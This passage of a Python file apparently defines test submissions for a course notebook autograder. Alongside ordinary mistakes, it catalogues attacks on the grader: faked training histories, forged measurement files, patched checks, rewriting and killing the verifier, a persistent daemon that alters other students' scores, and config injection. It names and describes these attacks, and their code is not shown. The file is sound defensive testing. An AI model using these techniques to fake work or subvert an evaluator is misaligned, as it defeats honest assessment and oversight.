            ("compile", 'loss="categorical_crossentropy"', 'loss="sparse_categorical_crossentropy"'),
            ("fit", "validation_data=(x_valid, y_valid)", "validation_data=(x_valid * 255, y_valid)")),
            {"test_steps", "test_save", "test_compile", "test_fit"}, ("float", ".keras", "sparse"),
            kind="combined", covers=("m04_steps_save_loss", "m04_floor_unnormalised"),
            real_only=frozenset({"test_fit"}), real_feedback=("unnormalised",),
            what="float steps_per_epoch, model.save without .keras, sparse loss, validation on unnormalised "
                 "images (four exercises, one training)"),
        Submission("x04_fake_history", A4, edit(A4, lambda nb: cr.set_source(nb, "fit", FAKE_HISTORY)),
                   {"test_fit"}, ("not been trained",), kind="adversarial", what="a made-up History, no training"),
        Submission("x04_loaded_model", A4, edit(A4, lambda nb: cr.set_source(nb, "fit", LOADED_MODEL)),
                   {"test_fit"}, kind="adversarial",
                   what="another student's trained model loaded from a file, then fine-tuned"),
        # --- notebook 5: predictions (8 points); each submission has a trained asl_model.keras ---
        Submission("a05_solution", A5, sol(A5), set(), kind="baseline", what="the full solution"),
        Submission("a05_release", A5, lambda root: cr.release_notebook(root, A5), ALL(A5), kind="baseline",
                   what="the untouched release"),
        Submission("m05_built_model", A5, edit(A5, ("load_model", 'model = keras.models.load_model("asl_model.keras")',
                                                    "from asl_course.learners import lesson\nmodel = lesson.build_model()")),
                   {"test_load_model"}, ("does not predict what the model saved",),
                   what="a new model built instead of the saved one loaded", in_ci=False),
        Submission("m05_rgb_columns", A5, edit(
            A5, ("prepare_image", 'Image.open(path).convert("L")', "Image.open(path)"),
            ("accuracy_per_letter", "cm.sum(axis=1)", "cm.sum(axis=0)")),
            {"test_prepare_image", "test_accuracy_per_letter"}, ("grayscale", "column sums"),
            what="pictures not converted to grayscale, per-letter accuracy over the columns (two exercises)", in_ci=False),
        Submission("m05_j_ascending", A5, edit(
            A5, ("predict_letter", 'LETTERS = "ABCDEFGHIKLMNOPQRSTUVWXY"', 'LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXY"'),
            ("top_k", "np.argsort(probabilities)[::-1][:k]", "np.argsort(probabilities)[-k:]")),
            {"test_predict_letter", "test_top_k"}, ("J and Z need motion", "increasing order"),
            what="LETTERS with J (every letter after I shifted), top_k in increasing order (two exercises)", in_ci=False),
        Submission("m05_pair_with_j", A5, edit(A5, ("predict_confusion", 'prediction = "MN"', 'prediction = "MJ"')),
                   {"test_predict_confusion"}, ("the course has no J or Z",),
                   what="the pair \"MJ\" predicted (no J in the course)", in_ci=False),
        Submission("c05_five_mistakes", A5, edit(
            A5, ("load_model", 'model = keras.models.load_model("asl_model.keras")',
                 "from asl_course import lesson\nmodel = lesson.build_model()"),
            ("prepare_image", 'Image.open(path).convert("L")', "Image.open(path)"),
            ("accuracy_per_letter", "cm.sum(axis=1)", "cm.sum(axis=0)"),
            ("predict_letter", 'LETTERS = "ABCDEFGHIKLMNOPQRSTUVWXY"', 'LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXY"'),
            ("top_k", "np.argsort(probabilities)[::-1][:k]", "np.argsort(probabilities)[-k:]"),
            ("predict_confusion", 'prediction = "MN"', 'prediction = "MJ"')),
            ALL(A5), ("does not predict what the model saved", "grayscale", "column sums", "J and Z need motion",
                      "increasing order", "the course has no J or Z"),
            kind="combined", covers=("m05_built_model", "m05_rgb_columns", "m05_j_ascending", "m05_pair_with_j"),
            what="one mistake in each exercise: a new model built, RGB pictures, per-letter accuracy over the "
                 "columns, LETTERS with J, top_k increasing, the pair \"MJ\" (no J in the course) (each graded after the "
                 "grader repaired the one before)"),
        Submission("x05_tamper", A5, edit(
            A5, ("accuracy_per_letter", "cm.sum(axis=1)", "cm.sum(axis=0)"),
            ("top_k", "float(probabilities[i])", "round(float(probabilities[i]), 2)"),
            after_setup(PATCH_PREDICTION_CHECKS)),
            {"test_accuracy_per_letter", "test_top_k"}, ("column sums", "probabilities are not the input's"),
            kind="adversarial",
            what="patches the prediction self-checks, the grading module and numpy's comparisons "
                 "(top_k's rounded probabilities pass in the kernel, not in the verifier)"),
        Submission("zz05_solution", A5, sol(A5), set(), kind="baseline",
                   what="the full solution, graded after the adversarial submission"),
        # --- notebook 6: fast augmentation, stable training (6 points) ---
        Submission("a06_solution", A6, sol(A6), set(), kind="baseline", what="the full solution"),
        Submission("a06_release", A6, lambda root: cr.release_notebook(root, A6), ALL(A6), kind="baseline",
                   what="the untouched release (the training cell runs on the grader's repaired values)"),
        Submission("m06_turns_eval_epoch", A6, edit(
            A6, ("augment_layers", 'layers.RandomRotation(10 / 360, fill_mode="nearest")',
                 'layers.RandomRotation(0.1, fill_mode="nearest")'),
            ("train_ds", "augment(images, training=True)", "augment(images, training=False)"),
            ("schedule", "decay_steps=steps_per_epoch * EPOCHS", "decay_steps=steps_per_epoch"),
            ("predict_decay", "prediction = 0.15", "prediction = 0.25")),
            ALL(A6), ("fraction of a full turn", "does not transform the images", "reached 0 by the middle",
                      "a straight line from the start"),
            what="one mistake in each exercise: RandomRotation(0.1) (36 degrees), the layers mapped with "
                 "training=False (they do nothing), a schedule that decays within one epoch, 0.25 (a straight line) for "
                 "the step left after 15 of 20 epochs"),
        # --- notebook 7: hands the data set never showed (5 points) ---
        Submission("a07_solution", A7, sol(A7), set(), kind="baseline", what="the full solution"),
        Submission("a07_release", A7, lambda root: cr.release_notebook(root, A7), ALL(A7), kind="baseline",
                   what="the untouched release (the lookup and the suite run on the grader's repaired values)"),
        Submission("m07_masks_batch_mean", A7, edit(
            A7, ("family_split", "np.flatnonzero(~in_valid), np.flatnonzero(in_valid)", "~in_valid, in_valid"),
            ("predict_lookup", 'prediction = "about 1.00"', 'prediction = "about 0.95"'),
            ("low_contrast", "images.mean(axis=(1, 2, 3), keepdims=True)", "images.mean()")),
            ALL(A7), ("boolean mask", "a family of about 20 images", "whole batch"),
            what="one mistake in each exercise: boolean masks for row numbers, 0.95 for the lookup on a random "
                 "split, the batch's mean instead of each image's"),
        # --- issue 10: attacks on what the grader trusts ---
        Submission("x01_rerun_repaired", A1, edit(A1, NO_SCALING, after_setup(RERUN_FAILED_TESTS)),
                   {"test_normalize"}, ("runs twice is void",), kind="adversarial",
                   what="re-runs a failed test cell (the grader used to repair the values first): the verifier "
                        "judges the values recorded before any repair, and a test that ran twice is void",
                   in_ci=False),
        Submission("x05_rerun_repaired", A5, lambda root: cr.insert_after(cr.release_notebook(root, A5), None,
                                                                           RERUN_FAILED_TESTS),
                   ALL(A5), kind="adversarial",
                   what="the untouched release, re-running each failed test cell after the grader's repair"),
        Submission("x01_forged_records", A1, edit(A1, NO_SCALING, NO_ONE_HOT, after_setup(FORGE_RECORDS)),
                   {"test_normalize", "test_one_hot"}, ("not divided by 255",), kind="adversarial",
                   what="test cells replaced by code that writes the measurement files itself (verdicts, digests, "
                        "its own raw values): only the raw values count, judged against the grader's data"),
        Submission("x05_forged_records", A5, edit(A5, ("top_k", "float(probabilities[i])",
                                                       "round(float(probabilities[i]), 2)"),
                                                  after_setup(FORGE_RECORDS)),
                   {"test_top_k"}, ("probabilities are not the input's",), kind="adversarial",
                   what="test cells replaced by forged measurement files with inputs of its choosing: the verifier "
                        "runs the answer cells itself, in a sandbox, on its own inputs"),
        Submission("x04_trained_elsewhere", A4, edit(A4, lambda nb: cr.set_source(nb, "fit", TRAINED_ELSEWHERE_FIT)),
                   {"test_fit"}, kind="adversarial",
                   what="weights trained elsewhere from an initialisation of its own, put in the notebook's model, "
                        "with optimizer.iterations.assign and a hand-built History (the verifier: not descended from "
                        "the grader's initialisation; its short training also fails the self-check's accuracy)",
                   needs_real=True, in_ci=False),  # x04_loaded_model, in CI, fails the same check (not descended)
        Submission("x04_assigned_iterations", A4, edit(A4, lambda nb: cr.set_source(nb, "fit", ASSIGNED_ITERATIONS_FIT)),
                   {"test_fit"}, kind="adversarial",
                   what="no training: optimizer.iterations.assign(858) and a hand-built History (its weights are "
                        "still the grader's initialisation)"),
        Submission("x02_hostile_html", A2, edit(A2, with_markdown(HOSTILE_MARKDOWN),
                                                after_setup(HOSTILE_OUTPUTS)),
                   set(), ("My notes",), kind="adversarial",
                   what="script, event handlers and external resources in a markdown cell and in outputs (the "
                        "feedback page is sanitized; the work is right: full marks)"),
        Submission("zz02_old_imports", A2, edit(A2, old_release_imports), set(), kind="baseline",
                   what="the full solution handed in from an older release, graded after the adversarial "
                        "submission: its setup cell (the student's copy) imports `from asl_course import "
                        "notebook` (tests/test_layout.py checks the old names in CI)", in_ci=False),
        Submission("zz02_solution", A2, sol(A2), set(), kind="baseline",
                   what="the full solution, graded after the adversarial submission", in_ci=False),
        Submission("zz04_solution", A4, sol(A4), set(), kind="baseline",
                   what="the full solution, graded after the adversarial submissions", needs_real=False, in_ci=False),
        # attacks on the grader's machine: each kernel runs in a sandbox (asl_course.grading.plugins.sandbox)
        Submission("x01_take_over_verifier", A1, edit(A1, NO_SCALING, after_setup(BLANK_TEST_CELLS + TAKE_OVER_VERIFIER)),
            ALL(A1), ("measurements of this exercise are missing",), kind="adversarial",
            what="x01_blank_tests with more: the solution (unscaled) with emptied test cells, that rewrites the "
                 "verifier's grading code in the grading run's folder and kills the verifier (the sandbox shows it "
                 "neither: every exercise lacks its measurements)"),
        Submission("x01_setsid_daemon", A1, edit(A1, NO_SCALING, after_setup(SETSID_DAEMON)), {"test_normalize"},
                   kind="adversarial",
                   what="a setsid, double-forked daemon that outlives its kernel to overwrite the next students' "
                        "measurements and grading code (it dies with its sandbox)", in_ci=False),
        Submission("x01_config_write", A1, edit(A1, NO_SCALING, after_setup(WRITE_NBGRADER_CONFIG)),
                   {"test_normalize"}, kind="adversarial",
                   what="appends code to the course's nbgrader_config.py that gives it full marks in the next "
                        "nbgrader command (the course folder does not exist in the sandbox)", in_ci=False),
        # graded before every other x01_ student: its daemon would sabotage them all
        Submission("x01_attacks_on_files", A1, edit(A1, NO_SCALING, cells_after_setup(
            REWRITE_GRADING_CODE, config_write("x01_attacks_on_files"), SETSID_DAEMON, RERUN_FAILED_TESTS)),
            {"test_normalize"}, ("runs twice is void",), kind="adversarial",
            what="x01_rewrite_grading, x01_config_write, x01_setsid_daemon and x01_rerun_repaired in one, each in "
                 "a cell of its own: any one that worked would earn test_normalize's point (or, the daemon, "
                 "change the next students' scores)"),
    ]


def describe() -> str:
    """The catalogue as a table (for the README and the test report)."""
    rows = [f"| {s.student} | {s.assignment} | {s.kind} | {s.what} | {', '.join(sorted(s.lost)) or '-'} |"
            for s in catalogue()]
    return "| student | notebook | kind | what | loses |\n|---|---|---|---|---|\n" + "\n".join(rows)


if __name__ == "__main__":
    print(describe())
    print(json.dumps({a: sum(p.values()) for a, p in POINTS.items()}))
